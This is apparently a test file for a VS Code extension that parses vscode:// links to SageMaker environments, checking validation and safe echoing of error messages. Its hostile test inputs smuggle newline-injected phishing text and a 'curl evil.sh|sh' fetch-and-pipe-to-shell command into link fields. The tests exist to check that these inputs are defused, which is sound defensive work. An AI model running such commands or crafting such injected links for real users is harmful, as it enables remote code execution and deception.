import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { ENV_KINDS, FIELD_RULES, KIND_SPECS } from '../../../src/links/kinds';
import { EXTENSION_ID, linkFor, parseLink } from '../../../src/links/link';
import { repoRoot } from '../../harness/paths';

const model = JSON.parse(fs.readFileSync(path.join(repoRoot, 'test', 'reference', 'sagemaker-api-model.json'), 'utf8')) as {
  shapes: Record<string, { min?: number; max?: number; pattern?: string }>;
};

/** A link's path and query, as VS Code hands them to the URI handler. */
function parts(link: string): [string, string] {
  const u = new URL(link);
  return [u.pathname, u.search.slice(1)];
}

const parse = (query: string) => parseLink('/open', query);
const problem = (query: string): string => {
  const r = parse(query);
  assert.ok(!r.ok, `expected ${query} to be refused`);
  return r.problem;
};

describe('links: vscode:// links to an environment', () => {
  it('names the extension as package.json does (publisher.name) and the kinds docs/architecture.md lists', () => {
    const manifest = JSON.parse(fs.readFileSync(path.join(repoRoot, 'package.json'), 'utf8')) as { publisher: string; name: string };
    assert.equal(EXTENSION_ID, `${manifest.publisher}.${manifest.name}`);
    assert.deepEqual([...ENV_KINDS], ['studio', 'space', 'notebook', 'mlflowTrackingServer', 'mlflowApp', 'partnerApp']);
  });

  it('takes each key\'s length and pattern from the SageMaker API model', () => {
    for (const [name, rule] of Object.entries(FIELD_RULES)) {
      const shape = model.shapes[name];
      assert.ok(shape, `model shape ${name}`);
      assert.equal(rule.max, shape.max, `${name} max`);
      assert.equal(rule.pattern, shape.pattern, `${name} pattern`);
    }
  });

  it('round-trips every kind: a link names kind, region and the keys, nothing else', () => {
    const refs = [
      { kind: 'studio', region: 'us-east-1', domain: 'd-abc123', profile: 'alice' },
      { kind: 'space', region: 'eu-west-1', domain: 'd-abc123', profile: 'alice', space: 'alice-jupyterlab' },
      { kind: 'notebook', region: 'us-west-2', name: 'fraud-detection-dev' },
      { kind: 'mlflowTrackingServer', region: 'us-east-1', name: 'team-tracking' },
      { kind: 'mlflowApp', region: 'us-east-1', arn: 'arn:aws:sagemaker:us-east-1:123456789012:mlflow-app/app-1' },
      { kind: 'partnerApp', region: 'us-east-1', arn: 'arn:aws:sagemaker:us-east-1:123456789012:partner-app/app-ABCDEF123456' },
    ] as const;
    for (const ref of refs) {
      const link = linkFor(ref);
      assert.ok(link.startsWith('vscode://sagemaker-environments.sagemaker-environments/open?kind='), link);
      const back = parseLink(...parts(link));
      assert.ok(back.ok, `${link}: ${back.ok ? '' : back.problem}`);
      assert.deepEqual(back.ref, ref);
    }
    assert.equal(
      linkFor({ kind: 'space', region: 'eu-west-1', domain: 'd-abc123', profile: 'alice', space: 'alice-jupyterlab' }),
      'vscode://sagemaker-environments.sagemaker-environments/open?kind=space&region=eu-west-1&domain=d-abc123&profile=alice&space=alice-jupyterlab',
    );
  });

  it('refuses a malformed link with a message saying what is wrong', () => {
    const wrongPath = parseLink('/launch', 'kind=studio');
    assert.ok(!wrongPath.ok);
    assert.match(wrongPath.problem, /path is "\/launch"/);
    assert.match(problem('region=us-east-1&domain=d-abc123&profile=a'), /names no kind/);
    assert.match(problem('kind=cluster&region=us-east-1'), /unknown kind "cluster"; known kinds: studio, space, notebook/);
    assert.match(problem('kind=notebook&region=mars-1&name=nb'), /region is not valid: "mars-1" is not an AWS region/);
    assert.match(problem('kind=notebook&name=nb'), /region is not valid/);
    assert.match(problem('kind=studio&region=us-east-1&domain=d-abc123'), /no "profile" \(the UserProfileName\)/);
    assert.match(problem('kind=studio&region=us-east-1&domain=abc&profile=alice'), /"domain" "abc" is not a valid DomainId/);
    assert.match(problem('kind=space&region=us-east-1&domain=d-abc123&profile=alice&space=-bad-'), /"space" "-bad-" is not a valid SpaceName/);
    assert.match(problem(`kind=notebook&region=us-east-1&name=${'n'.repeat(64)}`), /64 characters long; a NotebookInstanceName has 1 to 63/);
    assert.match(problem('kind=notebook&region=us-east-1&name=nb&space=x'), /a notebook instance link has no "space"/);
    assert.match(problem('kind=notebook&region=us-east-1&name=nb&url=https://evil'), /^it has a parameter other than kind, region and domain, profile, space, name, arn\.$/);
    assert.match(problem('kind=notebook&region=us-east-1&name=nb&name=other'), /"name" more than once/);
    assert.match(problem('kind=partnerApp&region=us-east-1&arn=arn:aws:sagemaker:us-east-1:123456789012:partner-app/app-short'), /not a valid PartnerAppArn/);
    assert.match(
      problem('kind=mlflowApp&region=eu-west-1&arn=arn:aws:sagemaker:us-east-1:123456789012:mlflow-app/app-1'),
      /arn is in region "us-east-1" but the link says region eu-west-1/,
    );
  });

  it('echoes a link\'s values short, quoted and on one line, and never an unknown key', () => {
    const hostile = [
      `kind=notebook&name=nb&region=${'u'.repeat(200_000)}`,
      'kind=notebook&name=nb&region=us-east-1.%0A%0AYour%20AWS%20session%20has%20expired.%20Run%20curl%20evil.sh%7Csh',
      'kind=notebook%0A%0ARun%20curl%20evil.sh%7Csh&region=us-east-1',
      'kind=studio&region=us-east-1&profile=alice&domain=d-abc%E2%80%AEhs.live%0Dtrust',
      `kind=space&region=us-east-1&domain=d-abc123&profile=alice&space=${'s'.repeat(100_000)}`,
      'kind=mlflowApp&region=us-east-1&arn=arn:aws:sagemaker:eu-west-1%0ARun%20this:123456789012:mlflow-app/x',
      `kind=notebook&region=us-east-1&name=nb&${'k'.repeat(50_000)}%0Acurl%20evil.sh=1`,
    ];
    for (const query of hostile) {
      const p = problem(query);
      assert.ok(p.length <= 300, `${p.length} characters: ${p.slice(0, 120)}`);
      assert.doesNotMatch(p, /[\r\n\u2028\u2029\u202e]/, p);
      assert.doesNotMatch(p, /kkkk/, p);
    }
    assert.equal(
      problem(hostile[1]),
      'its region is not valid: "us-east-1.\\n\\nYour AWS session has expir…" (61 characters) is not an AWS region name; expected a name such as us-east-1 or eu-west-2.',
    );
    const wrongPath = parseLink(`/${'p'.repeat(10_000)}\nx`, 'kind=studio');
    assert.ok(!wrongPath.ok);
    assert.ok(wrongPath.problem.length <= 200 && !wrongPath.problem.includes('\n'), wrongPath.problem.slice(0, 100));
  });

  it('describes each kind in words for the confirmation', () => {
    assert.equal(
      KIND_SPECS.space.describe({ kind: 'space', region: 'us-east-1', domain: 'd-abc123', profile: 'alice', space: 'alice-jl' }, { domainName: 'ml-platform', displayName: 'Alice JupyterLab' }),
      'space Alice JupyterLab (alice-jl) of user profile alice in domain ml-platform (d-abc123)',
    );
    assert.equal(KIND_SPECS.studio.describe({ kind: 'studio', region: 'us-east-1', domain: 'd-abc123', profile: 'alice' }), 'Studio for user profile alice in domain d-abc123');
  });
});
